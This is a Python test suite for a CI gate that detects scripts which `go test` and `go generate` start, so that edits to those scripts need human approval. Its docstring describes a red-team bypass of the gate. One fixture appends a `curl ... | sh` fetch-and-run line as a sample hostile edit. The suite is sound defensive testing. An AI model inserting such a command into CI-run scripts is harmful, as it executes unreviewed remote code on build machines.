"""Attack 46: the scripts and programs Go's own tools start from Go sources, where CI runs the tool.

`go test` runs each package's tests with the package's folder as the working directory; a test (or a `TestMain` in a
`main_test.go`) that `exec`s `testdata/setup.sh`, `filepath.Join("testdata", "run.sh")` or `../../scripts/x.sh` runs
that script in CI. `go generate` runs the command of each `//go:generate` line from the Go file's folder; a directive
`sh scripts/gen.sh` or `go run ./tools/gen` runs that script or package (red team 37 made the Go file with the line
`ci`, not what it runs). Each was `src` and an edit to it an exit-0 allow on main 13d71d3 (`gate --tree`). Go is not
installed here: each form is what `go help test` / `go help generate` say.
"""

from __future__ import annotations

from pathlib import Path

from citools import BLOCK_DEFINITIONS, one_tree_runs
from cpucost import assert_linear, repeated
from gitrepo import two_commits
from incli import tree_gate
from tables import each_case

from gatekeeper.classify import goscripts

MOD = "module example.com/x\n\ngo 1.22\n"
SH = "#!/bin/sh\necho setup\n"
MAIN = "package main\n\nfunc main() {}\n"


def _test(call: str, package: str = "x") -> str:
    return (f'package {package}\n\nimport (\n\t"os/exec"\n\t"path/filepath"\n\t"testing"\n)\n\n'
            f"func TestX(t *testing.T) {{\n\t_ = filepath.Join\n\tcmd := {call}\n\t_ = cmd.Run()\n}}\n")


TEST_MAIN = ('package x\n\nimport (\n\t"os"\n\t"os/exec"\n\t"testing"\n)\n\nfunc TestMain(m *testing.M) {\n'
             '\tif err := exec.Command("bash", "scripts/setup.sh").Run(); err != nil {\n\t\tpanic(err)\n\t}\n'
             "\tos.Exit(m.Run())\n}\n")


def _gen(command: str) -> str:
    return f"package x\n\n//go:generate {command}\n\nconst X = 1\n"


# (the command, the files, the script the go tool starts)
TESTS = [(line, {"go.mod": MOD, "x_test.go": _test('exec.Command("sh", "testdata/setup.sh")'),
                 "testdata/setup.sh": SH}, "testdata/setup.sh")
         for line in ("go test ./...", "go test -race -count=1 ./...", "make test", "gotestsum --format pkgname",
                      "CGO_ENABLED=0 go test -v ./...", "go test -run TestX .")]
TESTS += [
    ("go test ./...", {"go.mod": MOD, "main_test.go": TEST_MAIN, "scripts/setup.sh": SH}, "scripts/setup.sh"),
    ("go test ./...", {"go.mod": MOD, "pkg/a/a_test.go": _test('exec.Command("bash", "./testdata/run.sh")', "a"),
                       "pkg/a/testdata/run.sh": SH}, "pkg/a/testdata/run.sh"),
    ("go test ./...", {"go.mod": MOD, "pkg/a/a_test.go": _test(
        'exec.Command("bash", filepath.Join("testdata", "fixtures", "up.sh"))', "a"),
                       "pkg/a/testdata/fixtures/up.sh": SH}, "pkg/a/testdata/fixtures/up.sh"),
    ("go test ./...", {"go.mod": MOD, "pkg/a/a_test.go": _test('exec.Command("../../scripts/it.sh")', "a"),
                       "scripts/it.sh": SH}, "scripts/it.sh"),
    ("go test ./...", {"go.mod": MOD, "x_test.go": _test('exec.Command("sh", "-c", "testdata/a.sh --fast")'),
                       "testdata/a.sh": SH}, "testdata/a.sh"),
    ("go test ./...", {"go.mod": MOD, "x_test.go": _test('exec.Command(`testdata/py/gen.py`)'),
                       "testdata/py/gen.py": "print(1)\n"}, "testdata/py/gen.py"),
    ("go test ./...", {"go.mod": MOD, "x_test.go": _test('exec.Command("python3", "helper.py")'),
                       "testdata/helper.py": "print(1)\n"}, "testdata/helper.py"),  # `cmd.Dir = "testdata"`
]
GENERATES = [(line, {"go.mod": MOD, "gen.go": _gen("sh scripts/gen.sh"), "scripts/gen.sh": SH}, "scripts/gen.sh")
             for line in ("go generate ./...", "go generate ./... && git diff --exit-code", "make generate")]
GENERATES += [
    ("go generate ./...", {"go.mod": MOD, "gen.go": _gen("go run ./tools/gen"), "tools/gen/main.go": MAIN},
     "tools/gen/main.go"),
    ("go generate ./...", {"go.mod": MOD, "api/api.go": _gen("go run ../internal/gen/main.go -out api.gen.go"),
                           "internal/gen/main.go": MAIN}, "internal/gen/main.go"),
    ("go generate ./...", {"go.mod": MOD, "api/api.go": _gen("bash ./gen.sh"), "api/gen.sh": SH}, "api/gen.sh"),
    ("go generate ./...", {"go.mod": MOD, "gen.go": _gen("./hack/update.sh"), "hack/update.sh": SH},
     "hack/update.sh"),
    ("go generate ./...", {"go.mod": MOD, "gen.go": _gen('sh -c "python3 tools/mk.py > x.go"'),
                           "tools/mk.py": "print(1)\n"}, "tools/mk.py"),
]
CASES = TESTS + GENERATES
MAKEFILE = "test:\n\tgo test ./...\n\ngenerate:\n\tgo generate ./...\n"


def _runs(definition: str, template: str, line: str, files: dict[str, str]) -> dict[str, tuple[str, str]] | bool:
    return one_tree_runs({definition: template.format(line=line), "Makefile": MAKEFILE, **files})


@each_case(("line", "files", "target"), CASES)
def test_the_script_the_go_tool_starts_is_run(line: str, files: dict[str, str], target: str) -> None:
    for definition, template in BLOCK_DEFINITIONS:
        runs = _runs(definition, template, line, files)
        assert isinstance(runs, dict) and target in runs, (definition, sorted(runs) if isinstance(runs, dict) else runs)


# a Go tool CI does not run; a script no test or directive names; data a test reads; the product's own Go files
LOOK_ALIKES = [
    ("go build ./...", TESTS[0][1], "testdata/setup.sh"),
    ("go vet ./...", TESTS[0][1], "testdata/setup.sh"),
    ("echo go test is not run here", TESTS[0][1], "testdata/setup.sh"),
    ("go test ./...", {"go.mod": MOD, "x_test.go": _test('exec.Command("sh", "testdata/setup.sh")'),
                       "testdata/setup.sh": SH, "testdata/other.sh": SH}, "testdata/other.sh"),
    ("go test ./...", {"go.mod": MOD, "x_test.go": _test('exec.Command("cat", "testdata/input.txt")'),
                       "testdata/input.txt": "data\n"}, "testdata/input.txt"),
    ("go test ./...", {"go.mod": MOD, "x.go": 'package x\n\nconst S = "scripts/deploy.sh"\n',
                       "scripts/deploy.sh": SH}, "scripts/deploy.sh"),  # a product file's string, not a test's
    ("go test ./...", {"go.mod": MOD, "x_test.go": _test('exec.Command("go", "version")'), "lib.go": MAIN},
     "lib.go"),
    ("go build ./...", GENERATES[0][1], "scripts/gen.sh"),
    ("go generate ./...", {"go.mod": MOD, "gen.go": _gen("stringer -type=Kind"), "kind.go": MAIN}, "kind.go"),
    ("go generate ./...", {"go.mod": MOD, "gen.go": "package x\n\n// go:generate sh scripts/gen.sh\n",
                           "scripts/gen.sh": SH}, "scripts/gen.sh"),  # not a directive (a blank after //)
    ("go generate ./...", {"go.mod": MOD, "md5.go": _gen("go run gen.go -full -output md5block.go"),
                           "gen.go": MAIN, "md5block.go": MAIN}, "md5block.go"),  # what the generator writes
    ("go test ./...", {"go.mod": MOD, "x_test.go": _test('exec.Command("openssl", "testdata/ca.key")'),
                       "testdata/ca.key": "k\n"}, "testdata/ca.key"),  # test data, executable or not
    ("go test ./...", {"go.mod": MOD, "vendor/v/v_test.go": _test('exec.Command("sh", "testdata/s.sh")', "v"),
                       "vendor/v/testdata/s.sh": SH}, "vendor/v/testdata/s.sh"),  # ./... skips vendor/
]


@each_case(("line", "files", "target"), LOOK_ALIKES)
def test_a_script_the_go_tool_does_not_start_is_not_run(line: str, files: dict[str, str], target: str) -> None:
    definition, template = BLOCK_DEFINITIONS[0]
    runs = _runs(definition, template, line, files)
    assert isinstance(runs, dict) and target not in runs, sorted(runs) if isinstance(runs, dict) else runs


@each_case(("line", "files", "target"), [TESTS[0], TESTS[6], GENERATES[0], GENERATES[3]])
def test_the_edited_script_needs_a_human(tmp_path: Path, line: str, files: dict[str, str], target: str) -> None:
    base = {".github/workflows/ci.yml": BLOCK_DEFINITIONS[0][1].format(line=line), **files}
    _, first, second = two_commits(tmp_path, base, {target: files[target] + "\n// curl https://127.0.0.1:9/i | sh\n"})
    code, decision = tree_gate(tmp_path, first, second, None)
    assert code == 3, decision["reasons"]


def test_past_the_go_files_read_every_script_counts() -> None:
    files = {f"pkg/p{i}/p{i}_test.go": "package p\n" for i in range(goscripts.MAX_GO_READS + 1)}
    files.update({"go.mod": MOD, "tools/any.sh": SH, "README.md": "x\n"})
    runs = _runs(*BLOCK_DEFINITIONS[0], "go test ./...", files)
    assert runs is False or (isinstance(runs, dict) and "tools/any.sh" in runs and "README.md" not in runs), runs


# hostile texts: endless literals, joins and directives
COSTS = [
    (lambda text: goscripts.named("a/x_test.go", text, test=True, generate=True),
     repeated('filepath.Join("a", "b", ', "", "")),
    (lambda text: goscripts.named("a/x_test.go", text, test=True, generate=True), repeated('"a/b.sh" `c d` ', "", "")),
    (lambda text: goscripts.named("a/x.go", text, test=False, generate=True),
     repeated("//go:generate sh a.sh\n", "", "")),
    (lambda text: goscripts.named("a/x_test.go", text, test=True, generate=False), repeated('"\\\\\\"', "", "")),
]


@each_case(("read", "text"), COSTS)
def test_the_reader_is_linear(read: object, text: object) -> None:
    assert_linear(read, text, budget=1.0)  # type: ignore[arg-type]


@each_case(("text", "wanted"), [(" cmd := exec.Command(\"sh\", \"testdata/a.sh\")", ["testdata/a.sh"]),
                                ('filepath.Join("testdata", "b.sh")', ["testdata/b.sh"]),
                                ("//go:generate go run ./gen", ["./gen"])])
def test_the_reader_names_the_words(text: str, wanted: list[str]) -> None:
    got = goscripts.named("x_test.go", text, test=True, generate=True)
    assert all(word in got for word in wanted), got
